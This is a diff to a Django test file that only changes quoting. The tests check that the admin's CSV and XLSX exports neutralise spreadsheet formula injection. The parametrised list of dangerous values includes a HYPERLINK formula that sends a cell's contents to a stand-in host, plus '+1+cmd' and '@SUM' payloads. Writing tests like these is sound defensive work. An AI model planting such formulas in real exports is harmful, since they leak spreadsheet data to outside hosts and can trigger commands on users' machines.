@@ -17,7 +17,7 @@ from tests.factories.orders import PaymentFactory
 
 pytestmark = pytest.mark.django_db
 
-DANGEROUS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+1+cmd", "-2+3", "@SUM(A1:A9)", "\tTab", "\r=1"]
+DANGEROUS = ['=HYPERLINK("http://x.example/?"&A1,"Bấm")', "+1+cmd", "-2+3", "@SUM(A1:A9)", "\tTab", "\r=1"]
 
 
 @pytest.mark.parametrize("value", DANGEROUS)
@@ -41,7 +41,7 @@ def test_the_admin_product_export_in_csv_and_xlsx(client, editor):
     response = client.get(url, {"export": "xlsx"})
     sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
     cells = [c.value for r in sheet.iter_rows() for c in r if isinstance(c.value, str)]
-    assert "'=HYPERLINK(\"http://x.example\",\"Bánh pía\")" in cells
+    assert '\'=HYPERLINK("http://x.example","Bánh pía")' in cells
     assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]
     assert Product.objects.count() == 1
 
